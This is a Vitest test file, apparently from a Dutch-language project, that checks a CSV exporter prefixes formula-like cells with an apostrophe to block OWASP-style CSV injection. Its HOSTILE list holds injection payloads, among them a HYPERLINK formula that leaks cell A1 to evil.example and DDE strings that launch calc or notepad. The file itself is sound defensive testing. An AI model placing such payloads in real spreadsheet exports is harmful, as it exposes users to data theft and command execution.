/** CSV exports are safe to open in a spreadsheet: no cell is evaluated as a formula (OWASP CSV injection). */
import { describe, it, expect } from 'vitest';
import { toCsv, parseCsv, parseCsvRecords, neutraliseFormula } from '../../../src/lib/shared/csv.ts';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"klik")',
  '=1+2',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+2',
  '\r=1+2',
  "=cmd|' /C notepad'!'A1'",
  '-',
  '+',
  '@',
  '==',
  '=\n1',
];

describe('CSV formula neutralising', () => {
  it.each(HOSTILE)('writes %j so that the cell starts with an apostrophe and reads back unchanged', (value) => {
    const csv = toCsv(['titel'], [{ titel: value }]);
    const [, row] = parseCsvRecords(csv);
    expect(row.fields[0].startsWith("'")).toBe(true);
    expect(row.fields[0].slice(1)).toBe(value);
    expect(parseCsv(csv, { restoreFormulas: true }).rows[0].values.titel).toBe(value);
  });

  it.each(['-12', '-3.5', '0', '42', 'Gent', "'al tussen aanhalingstekens", 'a=b', 'e-mail', ''])(
    'leaves %j as it is',
    (value) => {
      expect(neutraliseFormula(value)).toBe(value);
      expect(parseCsvRecords(toCsv(['x'], [{ x: value }]))[1]?.fields[0] ?? '').toBe(value);
    },
  );

  it('neutralises numbers stringified from the data as well as text, but not a negative number', () => {
    const csv = toCsv(['a', 'b', 'c'], [{ a: -5, b: '+5', c: '=5' }]);
    expect(csv.split('\n')[1]).toBe("-5,'+5,'=5");
  });
});
